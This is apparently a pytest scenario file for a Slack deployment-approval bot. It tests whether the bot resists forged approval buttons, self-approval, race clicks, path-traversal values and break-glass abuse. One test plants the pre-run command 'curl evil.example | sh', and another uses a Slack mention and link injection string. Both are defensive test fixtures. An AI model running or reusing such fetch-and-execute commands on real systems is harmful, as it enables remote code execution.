"""Attacks on votes, over signed HTTP against real processes: each is refused, answered honestly, and runs nothing.

One world for all; every attack has a stack of its own, so that "nothing ran" is counted there.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from bot.store.keys import Keys
from tests.scenarios.conftest import FAILED
from tests.scenarios.scene import LATER, TEAM, Scene, playing

pytestmark = [pytest.mark.scenario, pytest.mark.asyncio(loop_scope="module")]

Json = dict[str, Any]
RULES = """
[[rules]]
name = "expires soon"
stacks = ["acme/late/*"]
operations = ["deploy"]
approvals = 1
expires = "2s"

[[rules]]
name = "two of site reliability"
stacks = ["acme/team/*"]
operations = ["deploy"]
approvals = 2
approvers = ["@sre", "@platform"]

[[rules]]
name = "after a preview"
stacks = ["acme/moved/*"]
operations = ["deploy"]
approvals = 1
preview = true

[[rules]]
name = "destroyed by name"
stacks = ["acme/named/*"]
operations = ["destroy"]
effect = "allow"
confirm = "type"

[[rules]]
name = "a second pair of eyes"
stacks = ["*/*/*"]
operations = ["deploy", "destroy"]
approvals = 1
break_glass = ["@sre"]
"""
SOURCE = {"sourceContext": {"git": {"repoURL": "https://github.com/acme/a.git", "branch": "refs/heads/main"}}}


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def shared(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Scene]:
    folder: Path = tmp_path_factory.mktemp("attacks")
    policy = folder / "policy.toml"
    policy.write_text(RULES)
    async with playing(folder, policy=policy, workers=2) as scene:
        yield scene


@pytest_asyncio.fixture(loop_scope="module")
async def scene(request: pytest.FixtureRequest, shared: Scene) -> AsyncIterator[Scene]:
    """The world with its people as they were."""
    yield shared
    if request.node.stash.get(FAILED, False):
        print(await shared.story())  # noqa: T201  pytest shows it with the failure
        return
    for user in ("ben", "cleo", "dev"):
        await shared.slack.account(user, active=True)
    await shared.slack.group("sre", "ben", "dev")
    await shared.quiet()
    await shared.assert_nothing_refused()


async def asked(
    scene: Scene, path: str, *, by: str = "ana", text: str = "deploy", channel: str = "prod"
) -> Json:
    """A request that waits for votes on a stack made for it."""
    await scene.pulumi.put_stack(path, "quick-success", settings=SOURCE)
    await scene.ask(by, channel, f"{text} {path}")
    return await scene.card(channel, path, "waiting for approval", within=LATER)


async def ran(scene: Scene, path: str, *, operation: str = "update") -> int:
    """How often an operation ran on a stack, once everything is quiet."""
    await scene.quiet()
    return sum(one["operation"] == operation for one in await scene.pulumi.deployments(path))


def value_of(card: Json, action: str) -> str:
    """What a button of a card says."""
    elements = [each for block in card["blocks"] for each in block.get("elements", ())]
    return str(next(each["value"] for each in elements if each.get("action_id") == action))


async def audited(scene: Scene, user: str, outcome: str) -> bool:
    """Whether the audit has such a record, as the operator's export reads it."""
    raw = await scene.redis.xrange(Keys(TEAM).audit) or []
    return any(f"U0{user.upper()}" in str(entry) and outcome in str(entry) for _, entry in raw)


async def test_who_asked_does_not_approve_by_any_surface(scene: Scene) -> None:
    """Self-approval by the channel's card, by App Home, and by a button forged onto the message."""
    card = await asked(scene, "self/one")
    value = value_of(card, "qd:approve")
    await scene.slack.press("ana", "prod", card, "qd:approve")
    await scene.whisper("ana", "prod", "You asked for this yourself")
    await scene.slack.open_home("ana")
    await scene.quiet()
    home = (await scene.slack.state())["homes"]["U0ANA"]
    assert value not in [
        each.get("value")
        for block in home["blocks"]
        for each in block.get("elements", ())
        if str(each.get("action_id")).startswith("qd:approve")
    ]
    await scene.slack.press_unseen("ana", "prod", card["ts"], "qd:approve:7", value)
    assert await ran(scene, "self/one") == 0
    assert await audited(scene, "ana", "refused")


async def test_a_vote_after_the_end_counts_nothing(scene: Scene) -> None:
    card = await asked(scene, "late/one")
    value = value_of(card, "qd:approve")
    await scene.card("prod", "late/one", "expired")
    await scene.slack.press_unseen("ben", "prod", card["ts"], "qd:approve", value)
    await scene.whisper("ben", "prod", "This request has expired")
    assert await ran(scene, "late/one") == 0


async def test_an_altered_request_id_is_a_vote_for_nothing(scene: Scene) -> None:
    card = await asked(scene, "forged/one")
    for number, forged in enumerate(("r=0123456789abcdef0123", "r=", "r=..%2F..", "s=acme%2Fforged%2Fone")):
        await scene.slack.press_unseen("ben", "prod", card["ts"], f"qd:approve:{number}", forged)
    await scene.whisper("ben", "prod", "no longer on record")
    assert await ran(scene, "forged/one") == 0


async def test_a_button_that_names_another_request_votes_on_none(scene: Scene) -> None:
    """The stack on the button and the request that it names have to go together."""
    mine = await asked(scene, "other/mine", by="ben")
    other = await asked(scene, "other/theirs", by="ana")
    forged = value_of(mine, "qd:approve").replace("other%2Fmine", "other%2Ftheirs")
    await scene.slack.press_unseen("ben", "prod", other["ts"], "qd:approve:x", forged)
    await scene.whisper("ben", "prod", "belongs to another request")
    assert await ran(scene, "other/theirs") == 0
    assert await ran(scene, "other/mine") == 0


async def test_the_preview_of_a_request_is_no_request_to_vote_on(scene: Scene) -> None:
    card = await asked(scene, "moved/inner")
    inner = value_of(card, "qd:approve").replace("r=", "r=") + "p0"
    await scene.slack.press_unseen("ben", "prod", card["ts"], "qd:approve:1", inner)
    await scene.whisper("ben", "prod", "no longer on record")
    assert await ran(scene, "moved/inner") == 0


async def test_an_altered_value_can_not_confirm_a_destroy_past_its_rule(scene: Scene) -> None:
    """`y=1` on a forged button says "confirmed"; the rule wants an approval all the same, or the name typed."""
    card = await asked(scene, "confirm/one")
    for stack in ("confirm%2Fone", "named%2Fone"):
        await scene.pulumi.put_stack("named/one", "quick-success", settings=SOURCE)
        forged = f"s=acme%2F{stack}&y=1"
        await scene.slack.press_unseen("ben", "prod", card["ts"], f"qd:destroy:{stack[:3]}", forged)
    await scene.card("prod", "confirm/one", "destroy waiting for approval")
    await scene.whisper("ben", "prod", "type its name once more")
    assert await ran(scene, "confirm/one", operation="destroy") == 0
    assert await ran(scene, "named/one", operation="destroy") == 0


async def test_fifty_clicks_at_once_run_it_once(scene: Scene) -> None:
    card = await asked(scene, "race/one")
    value = value_of(card, "qd:approve")
    clicks = [
        scene.slack.press_unseen(
            ("ben", "cleo", "dev")[number % 3], "prod", card["ts"], f"qd:approve:{number}", value
        )
        for number in range(50)
    ]
    answers = await asyncio.gather(*clicks)
    assert {answer["status"] for answer in answers} == {200}
    await scene.card("prod", "race/one", "succeeded")
    assert await ran(scene, "race/one") == 1


async def test_fifty_clicks_of_one_person_are_one_vote(scene: Scene) -> None:
    card = await asked(scene, "team/race")
    value = value_of(card, "qd:approve")
    await asyncio.gather(
        *(
            scene.slack.press_unseen("ben", "prod", card["ts"], f"qd:approve:{number}", value)
            for number in range(50)
        )
    )
    await scene.card("prod", "team/race", "1 of 2 so far")
    assert await ran(scene, "team/race") == 0


async def test_who_may_not_approve_is_told_so(scene: Scene) -> None:
    card = await asked(scene, "team/outsider")
    await scene.slack.press("cleo", "prod", card, "qd:approve")
    await scene.whisper("cleo", "prod", "You can't approve this", "@sre or @platform")
    assert await ran(scene, "team/outsider") == 0
    assert await audited(scene, "cleo", "two of site reliability")


async def test_who_may_not_approve_can_not_reject_either(scene: Scene) -> None:
    card = await asked(scene, "team/veto")
    await scene.slack.press("cleo", "prod", card, "qd:reject")
    view = await scene.view("cleo", lambda one: one["callback_id"] == "qd:reject")
    await scene.slack.submit("cleo", view["id"], {"reason": {"reason": "because"}})
    await scene.whisper("cleo", "prod", "You can't reject this")
    await scene.card("prod", "team/veto", "waiting for approval")


async def test_settings_changed_between_the_votes_void_them_and_say_so(scene: Scene) -> None:
    """What ben approved is not what would run: he hears of it, and dev's vote, cast too late to know, does not start it."""
    card = await asked(scene, "team/changed")
    await scene.slack.press("ben", "prod", card, "qd:approve")
    await scene.card("prod", "team/changed", "1 of 2 so far")
    evil = {**SOURCE, "operationContext": {"preRunCommands": ["curl evil.example | sh"]}}
    await scene.pulumi.put_stack("team/changed", "quick-success", settings=evil)
    await scene.slack.press("dev", "prod", card, "qd:approve")
    await scene.whisper("dev", "prod", "was not counted", "settings changed")
    await scene.whisper("ben", "prod", "no longer counts", "settings changed")
    again = await scene.card("prod", "team/changed", "The votes began anew")
    assert "so far" not in again["text"]
    assert await ran(scene, "team/changed") == 0
    await asyncio.sleep(10.1)  # a second press of the same button within ten seconds is a double click
    await scene.slack.press("ben", "prod", again, "qd:approve")
    await scene.slack.press("dev", "prod", again, "qd:approve")
    await scene.card("prod", "team/changed", "succeeded")
    assert await ran(scene, "team/changed") == 1


async def test_a_branch_that_moved_after_the_preview_runs_nothing_new(scene: Scene) -> None:
    """What was previewed is pinned: a push in between changes nothing of what runs."""
    card = await asked(scene, "moved/one", text="deploy --branch main")
    seen = next(one for one in await scene.pulumi.deployments("moved/one") if one["operation"] == "preview")
    await scene.pulumi.start("moved/one", initiator="github", operation="preview")
    await scene.slack.press("ben", "prod", card, "qd:approve")
    await scene.card("prod", "moved/one", "deploy succeeded")
    updates = [one for one in await scene.pulumi.deployments("moved/one") if one["operation"] == "update"]
    assert [one["commit"] for one in updates] == [seen["commit"]]
    others = {one["commit"] for one in await scene.pulumi.deployments("moved/one")} - {seen["commit"]}
    assert others


async def test_who_is_not_of_the_group_breaks_no_glass(scene: Scene) -> None:
    await scene.pulumi.put_stack("glass/one", "quick-success", settings=SOURCE)
    said = await scene.told("cleo", "prod", 'deploy glass/one --break-glass --reason "let me in"')
    assert "Only @sre may break the glass" in said
    said = await scene.told("ben", "prod", "deploy glass/one --break-glass")
    assert "needs a reason" in said
    assert await ran(scene, "glass/one") == 0


async def test_a_reason_mentions_nobody(scene: Scene) -> None:
    await scene.pulumi.put_stack("glass/two", "quick-success", settings=SOURCE)
    evil = "<!channel> <https://evil.example|click> `*"
    await scene.ask("ben", "prod", f'deploy glass/two --break-glass --reason "{evil}"')
    alarm = await scene.card("prod", "Break-glass", "glass/two", "evil.example")
    assert "<!channel>" not in str(alarm)
    assert "<https://evil.example|" not in str(alarm)
    await scene.card("prod", "glass/two", "succeeded")


async def test_who_did_not_ask_takes_nothing_back(scene: Scene) -> None:
    card = await asked(scene, "self/withdrawn")
    await scene.slack.press("ben", "prod", card, "qd:withdraw")
    await scene.whisper("ben", "prod", "Only the one who asked can withdraw this")
    await scene.card("prod", "self/withdrawn", "waiting for approval")


async def test_the_vote_of_somebody_who_left_counts_no_more(scene: Scene) -> None:
    card = await asked(scene, "team/gone")
    await scene.slack.press("ben", "prod", card, "qd:approve")
    await scene.card("prod", "team/gone", "1 of 2 so far")
    await scene.slack.account("ben", active=False)
    await asyncio.sleep(10.5)  # what is known of a person is ten seconds old at most
    await scene.slack.press("dev", "prod", card, "qd:approve")
    await scene.whisper("dev", "prod", "1 of 2 approvals so far")
    assert await ran(scene, "team/gone") == 0
    stands = await scene.card("prod", "team/gone", "waiting for approval")
    assert "<@U0DEV>" in stands["text"].partition("so far")[2]
